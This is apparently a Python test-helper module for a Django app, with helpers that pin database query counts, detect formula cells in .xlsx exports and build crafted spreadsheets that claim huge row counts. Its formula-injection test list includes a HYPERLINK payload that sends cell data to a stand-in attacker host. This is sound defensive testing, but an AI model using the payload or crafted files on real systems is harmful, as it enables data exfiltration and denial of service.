"""Test helpers shared by the apps."""

import io
import json
import re
import zipfile
from contextlib import contextmanager
from pathlib import Path

from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from qingfeng.core.spreadsheets import append, new_workbook

QUERY_COUNTS = Path(__file__).resolve().parent / "tests" / "query_counts.json"


@contextmanager
def pinned_queries(name: str):
    """Fail unless the block makes exactly the number of queries pinned for `name`.

    The pins live in a checked-in file so a change in cost shows in review; an N+1
    regression fails here instead of reaching users.
    """
    pins = json.loads(QUERY_COUNTS.read_text())
    assert name in pins, f"no query count pinned for {name!r} in {QUERY_COUNTS}"
    with CaptureQueriesContext(connection) as ctx:
        yield ctx
    made = len(ctx.captured_queries)
    listing = "\n".join(q["sql"][:2000] for q in ctx.captured_queries)
    assert made == pins[name], f"{name}: {made} queries, pinned {pins[name]}\n{listing}"


# Words a spreadsheet would compute if a cell held them: what users type must come out as text.
FORMULA_LOOKALIKES = ['=HYPERLINK("http://evil.example/?x="&C3,"佐证")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def formula_cells(content: bytes) -> list[str]:
    """Every formula in an .xlsx: cells openpyxl reads as formulas, and <f> elements in the sheets' XML."""
    found = []
    book = load_workbook(io.BytesIO(content), read_only=True)
    for sheet in book.worksheets:
        sheet.reset_dimensions()
        found += [f"{sheet.title}!{cell.coordinate}" for row in sheet.iter_rows() for cell in row
                  if cell.data_type == "f"]
    book.close()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found += [name for name in archive.namelist()
                  if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[\s/>]", archive.read(name))]
    return found


def xlsx_with_rows(header, rows_xml: str, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A real .xlsx with `header` in row 1 and then `rows_xml` spliced into the sheet as it is.

    The way a hostile file is made: a few bytes of XML can claim millions of rows.
    """
    book = new_workbook()
    append(book.active, header)
    written = io.BytesIO()
    book.save(written)
    result = io.BytesIO()
    with zipfile.ZipFile(written) as source, zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            data = source.read(part.filename)
            if part.filename == name:
                data = data.replace(b"</sheetData>", rows_xml.encode() + b"</sheetData>")
            target.writestr(part.filename, data)
    return result.getvalue()
